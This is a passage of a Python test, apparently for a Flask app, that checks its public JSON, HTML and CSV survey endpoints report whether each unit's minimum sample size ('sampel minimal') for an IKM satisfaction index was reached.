    open_database(demo_app.config["DATABASE_URL"])
    client = demo_app.test_client()
    with database.connection_context():
        data = loads(client.get("/publik.json"))
        shown = [u for u in data["unit"] if u["ikm"]["status"] == "OK"]
        assert shown
        for unit in shown:
            assert unit["sampel"]["tercapai"] in (True, False), unit["kode"]
            assert unit["sampel"]["sampel_minimal"] is not None
        html = client.get("/publik").get_data(as_text=True)
        assert "Sampel cukup?" in html
        assert "n ≥ S" in html or "n &lt; S" in html or "n < S" in html
        rows = csv_dicts(client.get("/publik.csv").get_data(as_text=True))
        assert any(r["bagian"] == "sampel" and r["ukuran"] == "tercapai" for r in rows)
